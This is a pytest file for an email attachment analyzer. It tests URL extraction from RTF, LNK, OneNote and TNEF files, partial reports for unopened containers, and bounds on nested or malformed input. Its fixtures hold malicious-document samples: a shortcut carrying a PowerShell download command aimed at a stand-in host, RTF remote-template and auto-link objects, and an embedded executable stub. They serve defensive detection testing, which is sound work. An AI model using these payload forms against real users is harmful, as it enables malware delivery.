"""Files that nobody takes apart: addresses and kept files are found, and what was left unread is said."""

import struct
import time
from email.message import EmailMessage

import pytest
from tests.simulators import made_mail

from charteroak.mail.analysis import Analysis, AnalysisStatus, analyze
from charteroak.mail.inside.finding import InsideDefect
from charteroak.mail.inside.looking import look_inside

ADDRESS = "https://bad-file.example/get"
SECTION = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)


def _kept(content: bytes) -> bytes:
    return bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(content)) + bytes(12) + content


def _analyzed(name: str, content: bytes) -> Analysis:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "Jo <jo@firm.example>", "pat@elm.example", "File"
    message["Date"] = "Mon, 16 Nov 2026 10:00:00 -0500"
    message.set_content("The file is attached for you, as it was agreed with the office last week.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return analyze(message.as_bytes(), inspector=look_inside)


def _codes(found: Analysis) -> set[str]:
    return {defect.kind.code for defect in found.defects}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.rtf", rb'{\rtf1 {\field{\*\fldinst HYPERLINK "' + ADDRESS.encode() + rb'"}{\fldrslt x}}}'),
        ("a.rtf", rb"{\rtf1{\*\template " + ADDRESS.encode() + b"}}"),
        ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60) + f"powershell iwr {ADDRESS}".encode("utf-16-le")),
        ("a.one", SECTION + ADDRESS.encode() + b"\0"),
        ("winmail.dat", b"\x78\x9f\x3e\x22" + bytes(20) + ADDRESS.encode() + b"\0"),
    ],
)
def test_addresses_in_the_bytes_of_a_file_are_found(name: str, content: bytes) -> None:
    assert ADDRESS in {seen.observable.value for seen in _analyzed(name, content).observables}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.one", SECTION),
        ("a.iso", bytes(32769) + b"CD001" + bytes(4000)),
        ("report.dat", bytes(32769) + b"BEA01" + bytes(4000)),
        ("report.bin", bytes(4096) + b"conectix" + bytes(504)),
        ("a.img", b"\xeb\x3c\x90MSDOS5.0" + bytes(600)),
        ("a.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(100)),
        ("a.ace", bytes(7) + b"**ACE**" + bytes(100)),
        ("a.zst", b"\x28\xb5\x2f\xfd" + bytes(100)),
        ("winmail.dat", b"\x78\x9f\x3e\x22" + bytes(100)),
    ],
)
def test_a_file_that_is_not_opened_makes_a_partial_report_that_says_so(name: str, content: bytes) -> None:
    found = _analyzed(name, content)
    assert found.status is AnalysisStatus.PARTIAL
    assert "file-kind-not-opened" in _codes(found)
    assert "file-inside-damaged" not in _codes(found)


@pytest.mark.parametrize(
    ("content", "signal"),
    [
        (SECTION + _kept(b"MZ" + bytes(60)), "file-archive-with-program"),
        (SECTION + "run me.hta".encode("utf-16-le") + bytes(8), "file-archive-with-program"),
        (rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 01}}}", "file-loads-from-outside"),
        (rb"{\rtf1{\*\template http://x.example/a.dotm}}", "file-loads-from-outside"),
    ],
)
def test_what_runs_or_loads_out_of_such_a_file_is_a_signal(content: bytes, signal: str) -> None:
    assert signal in {each.id for each in _analyzed("a.one", content).signals}


def test_sections_in_sections_are_opened_to_a_depth_that_is_told() -> None:
    nested = SECTION + _kept(b"MZ" + bytes(60))
    for _ in range(400):
        nested = SECTION + _kept(nested)
    for kind, content in (("onenote", nested), ("zip", made_mail.zipped({"a.one": nested}))):
        assert InsideDefect.CUT in {why for why, _ in look_inside(kind, "", content, ()).defects}


def test_files_without_end_in_a_section_are_bounded() -> None:
    kept = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", 1 << 40) + bytes(12)
    began = time.process_time()
    found = look_inside("onenote", "", (SECTION + kept) * 40 + b"http://a.example " * 100_000, ())
    assert InsideDefect.CUT in {why for why, _ in found.defects}
    look_inside("onenote", "", SECTION + kept * 50_000, ())
    look_inside("onenote", "", SECTION + b".\0a\0" * 500_000, ())
    look_inside("rtf", "", b"{\\rtf1" + b"\\template" * 100_000 + b"{" * 100_000, ())
    look_inside("rtf", "", b"{\\rtf1" + b"\\template{" * 100_000, ())
    assert time.process_time() - began < 5
